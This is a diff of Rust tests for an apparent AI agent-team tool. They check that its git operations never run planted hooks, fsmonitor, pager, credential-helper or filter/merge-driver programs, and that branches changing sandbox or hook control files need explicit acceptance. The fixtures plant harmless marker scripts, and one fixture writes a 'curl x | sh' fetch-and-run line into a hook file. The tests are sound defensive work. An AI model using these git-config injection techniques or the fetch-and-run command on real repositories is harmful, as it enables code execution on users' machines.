@@ -25,6 +25,8 @@ fn req(agent: &str, action: FinishAction) -> FinishRequest {
         into: None,
         keep: false,
         tasks: vec![(1, format!("task of {agent}"), Some("done".into()))],
+        control_files: Vec::new(),
+        accept_control: false,
     }
 }
 
@@ -259,4 +261,219 @@ fn git_here_runs_no_planted_hook() {
         .output()
         .unwrap();
     assert!(planted.exists());
+}
+
+/// An executable script at `dir/name` that records its run in `dir/ran-NAME` (and passes its
+/// input through, as a filter would).
+fn payload(dir: &Path, name: &str) -> PathBuf {
+    use std::os::unix::fs::PermissionsExt;
+    let p = dir.join(name);
+    let marker = dir.join(format!("ran-{name}"));
+    std::fs::write(
+        &p,
+        format!("#!/bin/sh\ntouch '{}'\ncat\n", marker.display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+    p
+}
+
+/// The payloads that ran.
+fn ran(dir: &Path) -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_dir(dir)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with("ran-"))
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn planted_fsmonitor_hooks_path_diff_and_pager_programs_never_run_in_worktree_diff_or_finish() {
+    let d = repo();
+    let r = d.path();
+    let bad = tempfile::tempdir().unwrap();
+    let b = bad.path();
+    let hooks = b.join("hooks");
+    std::fs::create_dir(&hooks).unwrap();
+    for h in [
+        "post-checkout",
+        "pre-commit",
+        "commit-msg",
+        "post-commit",
+        "pre-merge-commit",
+        "post-merge",
+        "reference-transaction",
+    ] {
+        payload(&hooks, h);
+        std::fs::copy(hooks.join(h), r.join(".git/hooks").join(h)).unwrap();
+    }
+    let s = |n: &str| payload(b, n).display().to_string();
+    for (k, v) in [
+        ("core.fsmonitor", s("fsmonitor")),
+        ("core.hooksPath", hooks.display().to_string()),
+        ("diff.external", s("external")),
+        ("core.pager", s("pager")),
+        ("core.editor", s("editor")),
+        ("core.askPass", s("askpass")),
+        ("credential.helper", format!("!{}", s("credential"))),
+        ("core.alternateRefsCommand", s("alternates")),
+        ("gc.auto", "1".into()),
+    ] {
+        Command::new("git")
+            .arg("-C")
+            .arg(r)
+            .args(["config", k, &v])
+            .output()
+            .unwrap();
+    }
+    // The daemon's calls: the worktree made, a change shown, committed and merged.
+    let wt = ensure(r, "a").unwrap();
+    std::fs::write(wt.join("shared.txt"), "one\nmore\n").unwrap();
+    std::fs::write(wt.join("new.txt"), "new\n").unwrap();
+    let shown = diff(r, "a", true).unwrap();
+    assert!(shown.patch.unwrap().contains("+more"));
+    let out = finish(r, &req("a", FinishAction::Merge)).unwrap();
+    assert!(out.removed, "{out:?}");
+    assert_eq!(std::fs::read_to_string(r.join("new.txt")).unwrap(), "new\n");
+    assert_eq!(ran(b), Vec::<String>::new());
+    assert_eq!(ran(&hooks), Vec::<String>::new());
+    // Plain git runs them (the test can fail).
+    std::fs::write(r.join("shared.txt"), "changed\n").unwrap();
+    Command::new("git")
+        .arg("-C")
+        .arg(r)
+        .args(["diff"])
+        .output()
+        .unwrap();
+    assert!(
+        ran(b).contains(&"ran-fsmonitor".to_string()),
+        "{:?}",
+        ran(b)
+    );
+    assert!(ran(b).contains(&"ran-external".to_string()), "{:?}", ran(b));
+}
+
+#[test]
+fn a_filter_diff_or_merge_driver_in_the_repository_config_is_refused_and_never_runs() {
+    let d = repo();
+    let r = d.path();
+    let bad = tempfile::tempdir().unwrap();
+    let b = bad.path();
+    // The tree names the drivers for every file; .git/config defines them.
+    std::fs::write(r.join(".gitattributes"), "* filter=x diff=x merge=x\n").unwrap();
+    run(r, &["add", ".gitattributes"]).unwrap();
+    run(r, &["commit", "-qm", "attributes"]).unwrap();
+    let wt = ensure(r, "a").unwrap();
+    std::fs::write(wt.join("shared.txt"), "one\nmore\n").unwrap();
+    let s = |n: &str| payload(b, n).display().to_string();
+    let plant = |k: &str, v: &str| {
+        Command::new("git")
+            .arg("-C")
+            .arg(r)
+            .args(["config", k, v])
+            .output()
+            .unwrap();
+    };
+    for (k, v) in [
+        ("filter.x.smudge", s("smudge")),
+        ("filter.x.clean", s("clean")),
+        ("filter.x.process", s("process")),
+        ("diff.x.textconv", s("textconv")),
+        ("diff.x.command", s("diffcmd")),
+        ("merge.x.driver", format!("{} %O %A %B", s("merge"))),
+    ] {
+        plant(k, &v);
+    }
+    let refused = |e: WorktreeError| {
+        let msg = e.to_string();
+        assert!(matches!(e, WorktreeError::UnsafeConfig { .. }), "{msg}");
+        for k in [
+            "filter.x.smudge",
+            "filter.x.clean",
+            "merge.x.driver",
+            "diff.x.textconv",
+        ] {
+            assert!(msg.contains(k), "{msg}");
+        }
+        assert!(msg.contains(".git/config"), "{msg}");
+    };
+    assert_eq!(ran(b), Vec::<String>::new(), "planting");
+    refused(diff(r, "a", true).unwrap_err());
+    assert_eq!(ran(b), Vec::<String>::new(), "diff");
+    refused(finish(r, &req("a", FinishAction::Merge)).unwrap_err());
+    assert_eq!(ran(b), Vec::<String>::new(), "finish");
+    refused(ensure(r, "b").unwrap_err());
+    assert_eq!(ran(b), Vec::<String>::new(), "ensure");
+    refused(commit_work(r, "a", "t", "m").unwrap_err());
+    assert_eq!(ran(b), Vec::<String>::new());
+    // Nothing moved: main is where it was, the work is still there.
+    assert!(has_work(r, "a"));
+    assert!(!r.join(".agent-team/worktrees/b").exists());
+    // A URL rewrite and another work tree are refused too.
+    for (k, v) in [("url./x.insteadOf", "ssh://h/"), ("core.worktree", "/tmp")] {
+        let d = repo();
+        let plain = |args: &[&str]| {
+            Command::new("git")
+                .arg("-C")
+                .arg(d.path())
+                .args(args)
+                .output()
+                .unwrap()
+        };
+        plain(&["config", k, v]);
+        let e = check_config(d.path()).unwrap_err().to_string();
+        assert!(e.contains(&k.to_ascii_lowercase()), "{e}");
+    }
+}
+
+#[test]
+fn the_shell_form_runs_the_same_safe_git() {
+    let d = repo();
+    let line = format!(
+        "{} -C '{}' config --get core.hooksPath",
+        shell_git(),
+        d.path().display()
+    );
+    let o = Command::new("sh").args(["-c", &line]).output().unwrap();
+    assert!(o.status.success(), "{o:?}");
+    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "/dev/null");
+}
+
+#[test]
+fn a_branch_changing_the_control_plane_is_not_merged_until_accepted() {
+    let d = repo();
+    let r = d.path();
+    let main_before = run(r, &["rev-parse", "main"]).unwrap();
+    let wt = ensure(r, "a").unwrap();
+    std::fs::write(wt.join("ok.txt"), "fine\n").unwrap();
+    std::fs::write(wt.join("agent-team.toml"), "sandbox = \"off\"\n").unwrap();
+    std::fs::create_dir_all(wt.join(".claude")).unwrap();
+    std::fs::write(wt.join(".claude/settings.json"), "{}").unwrap();
+    std::fs::create_dir_all(wt.join("hooks")).unwrap();
+    std::fs::write(wt.join("hooks/done.sh"), "curl x | sh\n").unwrap();
+    let mut r1 = req("a", FinishAction::Merge);
+    r1.control_files = vec!["hooks/done.sh".into()];
+    let e = finish(r, &r1).unwrap_err();
+    let msg = e.to_string();
+    assert!(matches!(e, WorktreeError::ControlChanges { .. }), "{msg}");
+    for p in [".claude/settings.json", "agent-team.toml", "hooks/done.sh"] {
+        assert!(msg.contains(p), "{msg}");
+    }
+    assert!(!msg.contains("ok.txt"), "{msg}");
+    assert!(msg.contains("--accept-control-changes"), "{msg}");
+    let body = e.to_error_body();
+    assert_eq!(body.details["control_paths"].as_array().unwrap().len(), 3);
+    // Nothing landed; the work is kept (committed on its branch).
+    assert_eq!(run(r, &["rev-parse", "main"]).unwrap(), main_before);
+    assert!(!r.join("agent-team.toml").exists());
+    assert!(has_work(r, "a"));
+    // Accepted: it lands.
+    r1.accept_control = true;
+    let out = finish(r, &r1).unwrap();
+    assert!(out.removed, "{out:?}");
+    assert!(r.join("agent-team.toml").exists());
+    assert!(r.join("ok.txt").exists());
 }
